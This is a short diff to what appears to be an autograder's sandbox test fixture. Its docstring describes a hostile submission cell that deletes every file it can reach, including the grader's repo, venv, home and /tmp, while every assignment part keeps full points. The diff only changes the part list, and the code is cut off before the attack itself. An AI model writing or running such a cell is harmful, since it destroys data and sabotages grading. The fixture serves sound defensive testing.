@@ -1,6 +1,7 @@
 """A top-level cell that deletes every file it can reach from ., .., ~, /tmp, the repo, the venv, the --out directory and a host canary (rmtree and os.remove loops): attacks the grader's files; every part keeps full points."""
+from autograder.assignment import PART_IDS
 ATTACKS = []
-KEEPS = ["softmax_read", "masks", "multihead", "positions", "targets", "leakage", "training"]
+KEEPS = list(PART_IDS)
 NEVER = ["HOSTILE_RAN_AS_ROOT"]
 ADD = [(None, '''
 import os
